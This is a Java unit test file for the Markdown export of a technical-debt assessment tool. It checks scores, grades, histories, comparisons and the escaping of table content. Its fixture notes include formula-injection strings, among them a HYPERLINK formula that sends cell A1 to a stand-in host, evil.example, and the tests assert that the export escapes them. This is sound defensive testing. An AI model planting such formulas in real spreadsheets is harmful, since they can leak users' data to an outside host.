package io.debtmeter.core.export;

import io.debtmeter.core.analysis.compare.AssessmentComparer;
import io.debtmeter.core.analysis.compare.ComparisonLoader;
import io.debtmeter.core.assessment.AssessmentStore;
import io.debtmeter.core.scoring.ScoreCalculator;
import org.junit.jupiter.api.Test;

import java.nio.file.Path;
import java.time.ZoneOffset;

import static org.assertj.core.api.Assertions.assertThat;

/** Markdown from a real SQLite file; every number worked out by hand in {@link ExportFixture}. */
class MarkdownExportTest extends WithExportFixture {

    private String render(ExportSubject subject) {
        try (AssessmentStore store = fixture.open()) {
            return new MarkdownExport(new ScoreCalculator()).render(store, subject);
        }
    }

    @Test
    void aDontKnowAnswerIsCountedApartAndListedToFindOut() {
        try (AssessmentStore store = fixture.open()) {
            store.reopen(fixture.q1().id());
            store.saveResponse(fixture.q1().id(), io.debtmeter.model.ItemResponse.open("p2")
                    .withAnswer(new io.debtmeter.model.Answer.DontKnow()));
        }
        String md = render(ExportSubject.assessment(fixture.q1().id()));

        // p1 = 0, p2 = don't know = 0, l1 = no = 0: maturity 0, debt 100.0.
        assertThat(md).contains("| Debt index | **100.0** (0 = no debt, 100 = all debt) |\n")
                .contains("| Coverage | 2 answered, 1 don't know, 0 not applicable, 0 open (of 3) |\n")
                .contains("""
                        ## Find out before next quarter

                        Nobody could tell; each counts as its lowest level until the team finds out.

                        - P2
                        """);
    }

    @Test
    void scorecardOfAFinalAssessment() {
        String md = render(ExportSubject.assessment(fixture.q1().id()));

        assertThat(md).startsWith("# Scorecard: Search ranking, 2026-Q1\n")
                .contains("| Participants | Ann, Bo |\n")
                // 100 × (0 + 0.5 + 0) / 3 = 16.666… maturity; 83.333… debt, shown 83.3, band Bad [50, 100].
                .contains("| Debt index | **83.3** (0 = no debt, 100 = all debt) |\n")
                .contains("| Grade | **Bad**: much debt |\n")
                .contains("| Coverage | 3 answered, 0 not applicable, 0 open (of 3) |\n")
                .contains("| One | 16.7 | 3 | 0 | 0 |\n")
                .doesNotContain("Partial");
        // Weakest: scores 0 (p1), 0 (l1), 0.5 (p2); ties keep rubric order. Notes escaped, "=" and "-" included.
        assertThat(md).contains("""
                | Item | Category | Answer | Note |
                |---|---|---|---|
                | P1 | One | 0 No | \\=HYPERLINK("http://evil.example/?"\\&A1,"Click") |
                | L | One | No | \\-1+2 |
                | P2 | One | 0.5 Half | @SUM(A1:A9) |
                """);
        // The open action of Q2 shows too, as on the scorecard; "|" and "*" cannot break the table.
        assertThat(md).contains("""
                | open | \\+notify the team |  |  | P2 |
                | done | Add tools \\| \\*now\\* | Ann | 1 Apr 2026 | P1 |
                """);
    }

    @Test
    void scorecardOfAPartialAssessment() {
        String md = render(ExportSubject.assessment(fixture.q2().id()));

        // Only p1 is scored (1 → 100 %): debt 0.0, band Good [0, 50).
        assertThat(md).contains("| Debt index | **0.0** (0 = no debt, 100 = all debt) |\n")
                .contains("| Grade | **Good**: little debt |\n")
                .contains("| Coverage | 1 answered, 1 not applicable, 1 open (of 3) |\n")
                .contains("_Partial: 1 unanswered; the score covers only what was answered._")
                .contains("| One | 100.0 | 1 | 1 | 1 |\n")
                .contains("No scored item is below the top level.");
    }

    @Test
    void teamHistoryWithChangesAndOpenActions() {
        String md = render(ExportSubject.team(fixture.team().id()));

        // Change = shown(0.0) − shown(83.3) = −83.3; the first row has nothing to compare with.
        assertThat(md).startsWith("# Search ranking: debt history\n").contains("""
                | 2026-Q1 | 10 Mar 2026 | tiny 1.0 | final | 83.3 | \u2014 | Bad | 3/3 |
                | 2026-Q2 | 10 Jun 2026 | tiny 1.0 | draft | 0.0 | \u25BC -83.3 improved | Good | 1/3 (partial) |
                """).contains("## Open actions").contains("| \\+notify the team |  |  | P2 |\n")
                .doesNotContain("Add tools");
    }

    @Test
    void everythingHasASectionPerTeamByName() {
        String md = render(ExportSubject.everything());

        assertThat(md).startsWith("# Debtmeter: all teams\n");
        assertThat(md.indexOf("## Fraud: debt history")).isPositive().isLessThan(md.indexOf("## Search ranking: debt history"));
        assertThat(md).contains("No assessments yet.");
    }

    @Test
    void comparisonOfTwoQuarters() {
        String md;
        try (AssessmentStore store = fixture.open()) {
            md = ComparisonMarkdown.render(new ComparisonLoader(new AssessmentComparer(new ScoreCalculator()), ZoneOffset.UTC)
                    .load(store, fixture.q1().id(), fixture.q2().id()));
        }

        assertThat(md).startsWith("# Comparison: Search ranking 2026-Q1 \u2192 Search ranking 2026-Q2\n")
                .contains("| Debt index | 83.3 | 0.0 | \u25BC -83.3 improved |\n")
                .contains("| Grade | Bad | Good |  |\n")
                // 16.7 → 100.0 as shown.
                .contains("| One | 16.7 | 100.0 | +83.3 (\u25BC improved) |\n")
                // p1: score 0 → 1 on a 3-level scale is 2 steps.
                .contains("| P1 | One | 0 No | 1 Yes | +2 | Before: \\=HYPERLINK(\"http://evil.example/?\"\\&A1,\"Click\")"
                        + " After: Tabbed, with a comma |\n")
                .contains("## \u25BC Improved items (1)\n").contains("## \u25B2 Regressed items (0)\n\nNone.")
                .doesNotContain("\u25B2 -").doesNotContain("\u25B2 improved")
                // p2 (0.5 → n/a) and l1 (no → unanswered) have no score on one side.
                .contains("0 unchanged, 2 not comparable (not applicable or unanswered on a side), 0 only before, 0 only after.")
                // Done on 2026-05-01, between 2026-03-10 and 2026-06-10; its item p1 improved.
                .contains("| Add tools \\| \\*now\\* | done | 1 May 2026 | P1 | \u25BC improved |\n");
    }
}
